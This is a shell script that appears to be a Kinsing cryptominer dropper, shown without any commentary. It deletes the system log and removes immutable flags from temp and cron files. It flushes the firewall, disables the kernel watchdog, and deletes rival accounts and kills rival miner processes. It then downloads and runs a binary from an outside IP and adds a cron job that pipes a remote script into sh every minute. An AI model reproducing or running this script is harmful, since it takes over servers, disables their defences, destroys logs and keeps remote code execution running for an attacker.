#!/bin/sh
BIN_FULL_PATH=/tmp/kinsing
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/ /var/tmp/ 2>/dev/null
chattr -R -i /var/spool/cron 2>/dev/null
chattr -i /etc/crontab 2>/dev/null
iptables -F 2>/dev/null || ufw disable
echo '0' >/proc/sys/kernel/nmi_watchdog 2>/dev/null
echo 'kernel.nmi_watchdog=0' >>/etc/sysctl.conf
userdel akay 2>&1
userdel vfinder 2>&1
for pid in $(ls /proc | grep -E '^[0-9]+$'); do
  exe=$(readlink /proc/$pid/exe 2>/dev/null)
  case "$exe" in *"(deleted)"*|*kdevtmpfsi*) kill -9 $pid;; esac
done
download() {
  timeout 2 curl -s --connect-timeout 1 -o "$1" "$2" || timeout 2 wget -q -t1 -T1 -O "$1" "$2" || echo "no $2"
}
if [ -x "$(command -v md5sum)" ]; then
  sum=$(md5sum $BIN_FULL_PATH 2>/dev/null | awk '{ print $1 }')
  case $sum in
  b3039abf2ad5202f4a9363b418002351) echo "ok";;
  *) echo "wrong"; download $BIN_FULL_PATH http://203.0.113.8/kinsing;;
  esac
else
  echo "No md5sum"
fi
chmod 777 $BIN_FULL_PATH 2>&1
crontab -l 2>/dev/null | grep -e "203.0.113.8" | grep -v grep
if [ $? -eq 0 ]; then
  echo "cron good"
else
  ( crontab -l 2>/dev/null; echo "* * * * * wget -q -O - http://203.0.113.8/unk.sh | sh > /dev/null 2>&1" ) | crontab -
fi
crontab -l
tail -1 /etc/sysctl.conf
